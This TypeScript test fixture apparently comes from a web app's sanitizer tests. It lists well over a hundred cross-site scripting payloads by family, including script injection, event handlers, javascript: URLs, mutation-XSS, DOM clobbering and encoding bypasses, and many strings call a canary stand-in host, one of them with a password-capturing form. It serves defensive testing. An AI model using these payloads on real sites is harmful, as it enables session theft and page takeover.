/**
 * Hostile HTML for every place that shows what somebody else wrote. Each string tries one way of running `__ran()`, of
 * asking another site (CANARY), or of taking over a part of the page. `RUN` and `HOST` are filled in below.
 */

import { plainMarkup } from '../../engine/blocks/parts/plain-markup.ts';

/** A host that does not exist: any request to it is a leak. */
export const canaryHost = 'canary.example';
/** The function that hostile code calls. */
export const sentinel = '__ran';

const families: Readonly<Record<string, readonly string[]>> = {
  script: [
    '<script>RUN</script>',
    '<ScRiPt>RUN</sCrIpT>',
    '<script src=//HOST/a.js></script>',
    '<script\n>RUN</script\n>',
    '<script/x>RUN</script>',
    '<script type=module>RUN</script>',
    '<script async src=data:text/javascript,RUN></script>',
    '<scr<script>ipt>RUN</scr</script>ipt>',
    '<script>/*</script><script>*/RUN</script>',
    '<svg><script>RUN</script></svg>',
    '<svg><script href=//HOST/a.js /></svg>',
    '<svg><script xlink:href="data:text/javascript,RUN" /></svg>',
    '<math><script>RUN</script></math>',
    '<<script>RUN//<</script>',
    '<script>RUN',
    '</p><script>RUN</script><p>',
    '<noscript><script>RUN</script></noscript>',
  ],
  handlers: [
    '<img src=x onerror=RUN>',
    '<img src="x" onerror="RUN">',
    '<img src=x OnErRoR=RUN>',
    '<img/src=x/onerror=RUN>',
    '<img src=x onerror\n=\nRUN>',
    '<img src=x onerror&#61;RUN>',
    '<img src=`x` onerror=RUN>',
    '<img src=x onload=RUN onerror=RUN>',
    '<img """><script>RUN</script>">',
    '<img title=">" src=x onerror=RUN>',
    "<img alt='<\"' src=x onerror=RUN>",
    '<a title="<img src=x onerror=RUN>">a</a>',
    '<p onclick=RUN>clique</p>',
    '<p onpointerrawupdate=RUN style=position:fixed;inset:0>mova</p>',
    '<div onmouseover="RUN">passe</div>',
    '<b onfocus=RUN tabindex=0 autofocus>foco</b>',
    '<details open ontoggle=RUN><summary>mais</summary>a</details>',
    '<p style="animation:a 1s" onanimationstart=RUN onanimationend=RUN>a</p>',
    '<p onbeforematch=RUN hidden=until-found>a</p>',
    '<div oncontentvisibilityautostatechange=RUN style=content-visibility:auto>a</div>',
    '<div popover id=x onbeforetoggle=RUN>a</div><button popovertarget=x>b</button>',
    '<xss onclick=RUN contenteditable autofocus onfocus=RUN>a</xss>',
    '<body onload=RUN onpageshow=RUN>',
    '<html onmouseenter=RUN>',
    '<marquee onstart=RUN>a</marquee>',
    '<div onscroll=RUN style=overflow:scroll;height:9px><br><br><br></div>',
    '<p onwheel=RUN onscrollend=RUN>a</p>',
    '<img src=x onerror="RUN" onerror="x">',
    '<img src onerror /x/ = RUN>',
    '<p/onclick=RUN/onmouseenter=RUN>a</p>',
    '<a href=# onclick="RUN">a</a>',
  ],
  media: [
    '<video src=x onerror=RUN></video>',
    '<video><source onerror=RUN src=//HOST/v.mp4></video>',
    '<video poster=//HOST/p.png></video>',
    '<audio src=//HOST/a.mp3 onloadstart=RUN autoplay>',
    '<audio onerror=RUN><source src=x></audio>',
    '<picture><source srcset=//HOST/s.png><img src=//HOST/i.png srcset="//HOST/j.png 2x"></picture>',
    '<img src=https://HOST/pixel.png>',
    '<img src=//HOST/pixel.png>',
    '<img src="&#104;ttps://HOST/p.png">',
    '<img lowsrc=//HOST/p.png dynsrc=//HOST/q.png>',
    '<input type=image src=//HOST/i.png onerror=RUN>',
    '<track src=//HOST/t.vtt default onload=RUN>',
    '<table background=//HOST/b.png><td background=//HOST/c.png>a</table>',
    '<body background=//HOST/b.png>',
    '<isindex type=image src=//HOST/i.png onerror=RUN>',
  ],
  addresses: [
    '<a href="javascript:RUN">clique</a>',
    '<a href="JaVaScRiPt:RUN">clique</a>',
    '<a href=" javascript:RUN">clique</a>',
    '<a href="java\nscript:RUN">clique</a>',
    '<a href="java\tscript:RUN">clique</a>',
    '<a href="java&Tab;script:RUN">clique</a>',
    '<a href="javascript&colon;RUN">clique</a>',
    '<a href="&#106;avascript:RUN">clique</a>',
    '<a href="&#x6A;&#x61;vascript:RUN">clique</a>',
    '<a href="&#0000106avascript:RUN">clique</a>',
    '<a href="\u0001javascript:RUN">clique</a>',
    '<a href="javascript://%0aRUN">clique</a>',
    '<a href="javascript://https://vimeo.com/1%0aRUN">clique</a>',
    '<a href="vbscript:RUN">clique</a>',
    '<a href="data:text/html,<script>RUN</script>">clique</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">clique</a>',
    '<a href="blob:https://HOST/1">clique</a>',
    '<a href="view-source:javascript:RUN">clique</a>',
    '<img src="javascript:RUN">',
    '<a xlink:href="javascript:RUN">clique</a>',
    '<area href="javascript:RUN" shape=rect coords=0,0,99,99>',
    '<a href=https://HOST ping=//HOST/p>clique</a>',
    '<q cite="javascript:RUN">a</q>',
  ],
  frames: [
    '<iframe src="javascript:RUN"></iframe>',
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.RUN&lt;/script&gt;"></iframe>',
    '<iframe src=//HOST/></iframe>',
    '<iframe src="https://player.vimeo.com.HOST/video/1"></iframe>',
    '<iframe onload=RUN></iframe>',
    '<iframe><img src=x onerror=RUN></iframe>',
    '<object data="javascript:RUN"></object>',
    '<object data="data:text/html,<script>RUN</script>"></object>',
    '<object type=text/html data=//HOST/></object>',
    '<embed src="javascript:RUN">',
    '<embed src=//HOST/e.swf>',
    '<frameset onload=RUN><frame src="javascript:RUN"></frameset>',
    '<portal src=//HOST/></portal>',
    '<fencedframe src=//HOST/></fencedframe>',
    '<applet code=x archive=//HOST/a.jar></applet>',
  ],
  document: [
    '<meta http-equiv=refresh content="0;url=javascript:RUN">',
    '<meta http-equiv=refresh content="0;url=//HOST/">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    '<base href=//HOST/>',
    '<base target=_top>',
    '<link rel=stylesheet href=//HOST/s.css>',
    '<link rel=preload as=script href=//HOST/p.js onload=RUN>',
    '<link rel=import href=//HOST/i.html>',
    '<link rel=dns-prefetch href=//HOST/><link rel=preconnect href=//HOST/>',
    '<?xml-stylesheet href="javascript:RUN"?><p>a</p>',
    '<!ENTITY x SYSTEM "//HOST/"><p>&x;</p>',
    '<title><img src=x onerror=RUN></title>',
  ],
  forms: [
    '<form action=//HOST/ ><input name=senha autofocus><button>Entrar</button></form>',
    '<form action="javascript:RUN"><input type=submit></form>',
    '<form><button formaction="javascript:RUN">a</button></form>',
    '<button type=submit formaction=//HOST/ form=popup-1>a</button>',
    '<input onfocus=RUN autofocus>',
    '<select onfocus=RUN autofocus><option>a</select>',
    '<textarea onfocus=RUN autofocus>a</textarea>',
    '<keygen autofocus onfocus=RUN>',
    '<dialog open onclose=RUN><form method=dialog><button>a</button></form></dialog>',
    '<label onclick=RUN>a<input type=checkbox></label>',
  ],
  styles: [
    '<style>@import "//HOST/s.css";</style>',
    '<style>body{background:url(//HOST/b.png)}</style>',
    '<style><img src=x onerror=RUN></style>',
    '<p style="background:url(//HOST/b.png)">a</p>',
    '<p style="background-image:\\75rl(//HOST/b.png)">a</p>',
    '<p style="width:expression(RUN)">a</p>',
    '<p style="-moz-binding:url(//HOST/x.xml#x)">a</p>',
    '<p style="behavior:url(//HOST/x.htc)">a</p>',
    '<div style="position:fixed;inset:0;z-index:2147483647;background:red">por cima</div>',
    '<p style="list-style:url(//HOST/l.png);cursor:url(//HOST/c.cur),auto">a</p>',
    '<font face="x" color="red;background:url(//HOST/f)">a</font>',
    '<svg><style>*{fill:url(//HOST/f.svg#a)}</style><rect/></svg>',
  ],
  clobbering: [
    '<a id=location href="javascript:RUN">a</a>',
    '<form id=document><input name=body><input name=cookie></form>',
    '<img name=currentScript src=x><img name=getElementById src=x>',
    '<a id=portico><a id=portico name=data href=//HOST/>',
    '<form id=attributes><input id=attributes name=attributes></form>',
    '<form id=x><input name=parentNode><input name=nodeName><input name=removeChild></form>',
    '<div id=root></div><div id=portico-data>{"tenant":null}</div>',
    '<p class="toast" id=conteudo data-state=closed data-first-focus>a</p>',
    '<svg id=defaultView></svg><a name=ownerDocument>a</a>',
  ],
  mutation: [
    '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
    '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
    '<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=RUN src=x>">',
    '<svg><desc><svg><image><a><desc><svg><image></image><style><!--</style></desc></a></svg><img src=x onerror=RUN>',
    '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=RUN>">',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml></math>',
    '<svg><foreignObject><p><style><!--</p></style><img src=x onerror=RUN></foreignObject></svg>',
    '<template><img src=x onerror=RUN></template>',
    '<template><template><script>RUN</script></template></template>',
    '<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>',
    '<select><template><img src=x onerror=RUN></template></select>',
    '<textarea><!--</textarea><img src=x onerror=RUN>--></textarea>',
    '<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>',
    '<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>',
    '<iframe><p title="</iframe><img src=x onerror=RUN>"></iframe>',
    '<table><td><svg><style><td><img title="</style><img src=x onerror=RUN>"></table>',
    '<p><svg><p></svg><style></p><img src=x onerror=RUN>',
    '<a><table><a href="javascript:RUN"><img src=x onerror=RUN></table></a>',
    '<svg><title><style><img src=x onerror=RUN></style></title></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>RUN</script></svg>#x"/></svg>',
    '<plaintext><img src=x onerror=RUN>',
  ],
  vectors: [
    '<svg onload=RUN>',
    '<svg/onload=RUN>',
    '<svg><animate onbegin=RUN attributeName=x dur=1s>',
    '<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>a</text></a></svg>',
    '<svg><set attributeName=onmouseover to=RUN></svg>',
    '<svg><image href=//HOST/i.svg onload=RUN /></svg>',
    '<svg><use href=//HOST/u.svg#x /></svg>',
    '<svg><foreignObject><iframe onload=RUN></iframe></foreignObject></svg>',
    '<svg><a href="javascript:RUN"><text y=20>a</text></a></svg>',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>RUN</handler></svg>',
    '<svg><discard onbegin=RUN />',
    '<svg><feImage href=//HOST/f.svg /></svg>',
    '<math href="javascript:RUN">clique</math>',
    '<math><maction actiontype="statusline#//HOST" xlink:href="javascript:RUN">clique</maction></math>',
    '<math><mi xlink:href="data:x,<script>RUN</script>">clique</mi></math>',
  ],
  spelling: [
    '&lt;script&gt;RUN&lt;/script&gt;',
    '&#60;img src=x onerror=RUN&#62;',
    '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
    '%3Cscript%3ERUN%3C/script%3E',
    '+ADw-script+AD4-RUN+ADw-/script+AD4-',
    '\u00bcscript\u00beRUN\u00bc/script\u00be',
    '<\u200bscript>RUN</script>',
    '<img\u000bsrc=x\u000bonerror=RUN>',
    '<img\u000csrc=x\u000conerror=RUN>',
    '<img\u00a0src=x\u00a0onerror=RUN>',
    '<\u0130mg src=x onerror=RUN>',
    '<ſcript>RUN</ſcript>',
    '<!--><img src=x onerror=RUN>-->',
    '<!--><script>RUN</script>',
    '<!-- --!><img src=x onerror=RUN> -->',
    '<!-- <img title="--><img src=x onerror=RUN>"> -->',
    '<![CDATA[<img src=x onerror=RUN>]]>',
    '<!doctype html><img src=x onerror=RUN>',
    '</ p><img src=x onerror=RUN>',
    '</script><img src=x onerror=RUN>',
    '"></script><script>RUN</script>',
    "'-RUN-'",
    '"onmouseover=RUN x="',
    '{{constructor.constructor("RUN")()}}',
    '\u0024{RUN}',
    '</script><!--<script>RUN',
    '<img src=x onerror=RUN',
    '<a href="javascript:RUN',
    '<',
  ],
};

export interface HostileText {
  family: string;
  html: string;
}

/** Every string, in its family. */
export const corpus: readonly HostileText[] = Object.entries(families).flatMap(([family, texts]) =>
  texts.map((text) => ({
    family,
    html: text.replaceAll('RUN', `window.${sentinel}()`).replaceAll('HOST', canaryHost),
  })),
);

/** A string that leaves something open would take the next ones with it: such a one ends its group. */
function leavesOpen(html: string): boolean {
  return !plainMarkup(`${html}<b>next</b>`).endsWith('<b>next</b>');
}

/** The corpus in texts of several strings each, for a field of which a page shows only a few. */
export function groupsOf(texts: readonly HostileText[]): string[] {
  const open = texts.filter(({ html }) => leavesOpen(html));
  const closed = texts.filter(({ html }) => !leavesOpen(html));
  return open.map((last, index) => {
    const share = closed.filter((_text, place) => place % open.length === index);
    return [...share, last].map(({ html }) => html).join('\n');
  });
}

/** The whole corpus in as few texts as a field for plain text takes, of `most` characters each. */
export function textsUpTo(most: number): string[] {
  const texts: string[] = [];
  for (const { html } of corpus) {
    const longer = `${texts.at(-1)}\n${html}`;
    if (texts.length > 0 && longer.length <= most) texts[texts.length - 1] = longer;
    else texts.push(html);
  }
  return texts;
}
